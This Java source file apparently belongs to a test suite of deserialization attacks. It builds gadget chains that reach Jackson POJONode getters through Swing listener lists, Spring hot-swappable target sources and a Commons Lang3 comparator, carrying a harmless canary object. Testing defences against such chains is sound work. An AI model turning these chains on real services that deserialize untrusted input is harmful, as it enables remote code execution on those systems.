package io.understudy.museum.attacks;

import static io.understudy.museum.attacks.Payload.runs;

import java.io.Serializable;
import java.util.List;
import org.apache.commons.lang3.compare.ObjectToStringComparator;
import org.springframework.aop.target.HotSwappableTargetSource;

/** Chains that call getters by the texts of Jackson's nodes, with what asks for a text when it is read. */
@SuppressWarnings("serial") // Of stand-ins; the stream has the numbers of the classes they stand for.
final class JacksonPayloads {

    private static final String NODE_2 = "com.fasterxml.jackson.databind.node.POJONode";
    private static final String NODE_3 = "tools.jackson.databind.node.POJONode";

    private JacksonPayloads() {}

    @WrittenAs(NODE_2)
    static final class Node2 implements Serializable {
        final Object _value = new Canary();
    }

    @WrittenAs(NODE_3)
    static final class Node3 implements Serializable {
        final Object _value = new Canary();
    }

    static List<Payload> all() {
        return List.of(
                runs(
                        "Jackson by listeners",
                        "javax.swing.event.EventListenerList",
                        () -> new JdkParts.Listeners(new Node2())),
                runs("Jackson by target sources", NODE_2, () -> swapped(new Node2())),
                runs("Jackson 3 by target sources", NODE_3, () -> swapped(new Node3())),
                runs(
                        "CommonsLang3",
                        NODE_2,
                        () -> JdkParts.compared(ObjectToStringComparator.INSTANCE, new Node2(), new Node2())),
                runs(
                        "CommonsLang3 with Jackson 3",
                        NODE_3,
                        () -> JdkParts.compared(ObjectToStringComparator.INSTANCE, new Node3(), new Node3())));
    }

    /** Two keys with one hash code; the text of XPath compares itself with the text of the node. */
    private static Object swapped(Object node) {
        return JdkParts.hashed(
                new HotSwappableTargetSource(node), new HotSwappableTargetSource(new JdkParts.TextOfXpath()));
    }
}
